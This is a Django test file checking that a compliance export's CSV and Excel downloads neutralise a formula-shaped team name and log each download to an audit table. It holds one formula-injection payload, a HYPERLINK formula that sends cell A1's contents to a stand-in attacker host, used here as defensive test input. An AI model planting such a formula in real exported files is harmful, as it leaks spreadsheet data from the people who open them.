"""Issue 18, item 3, for the 1-5-10 compliance export (the ledger's is in tests/intake/test_free_text.py):
a name that begins like a formula comes out of the CSV and the Excel file as text, never a live
formula, and each download writes an audit row — who, what, the period asked for, how many rows."""

import csv
import io

from django.utils import timezone
from openpyxl import load_workbook

from sanshi.audit.models import AuditEntry
from sanshi.cases.services import case_triage
from sanshi.intake.services import RequestInput, request_submit
from sanshi.rapid.models import ResponseTeam, TeamKind
from sanshi.rapid.services import case_dispatch

COMPLIANCE = "/staff/command/compliance/"
FORMULA = '=HYPERLINK("http://evil.example.com/?"&A1,"点击查看")'


def _dispatched_to_a_team_named_like_a_formula(world):
    team = ResponseTeam.objects.create(street=world.street, name=FORMULA, kind=TeamKind.SQUAD, zones=[], on_duty=True)
    request = request_submit(actor=world.operator, data=RequestInput(
        text="小区地下车库水管爆裂，需要马上处置", title="水管爆裂", sub_channel="web", grid_code="T1C1-G01"))
    case = case_triage(actor=world.operator, case=request.case, kind="SHARED", catalogue_code="S5", urgent=True,
                       reason="紧急事件")
    case_dispatch(actor=world.operator, case=case, team=team)


def test_the_compliance_csv_and_excel_carry_no_live_formula_and_are_audited(world, client):
    _dispatched_to_a_team_named_like_a_formula(world)
    today = timezone.localdate().isoformat()
    client.force_login(world.operator)

    response = client.get(COMPLIANCE, {"from": today, "to": today, "format": "csv"})
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    assert "'" + FORMULA in cells and FORMULA not in cells

    response = client.get(COMPLIANCE, {"from": today, "to": today, "format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert "'" + FORMULA in [c.value for c in cells]
    assert not any(c.data_type == "f" for c in cells)

    exports = AuditEntry.objects.filter(event="export", obj_type="compliance").order_by("seq")
    assert [(e.actor_username, e.reason) for e in exports] == [
        ("operator", f"csv from={today} to={today}"), ("operator", f"xlsx from={today} to={today}")]
    assert all(int(e.obj_id) > 0 for e in exports)  # how many rows went out


def test_viewing_the_figures_on_the_page_is_not_an_export(world, client):
    client.force_login(world.operator)
    assert client.get(COMPLIANCE).status_code == 200
    assert not AuditEntry.objects.filter(event="export").exists()
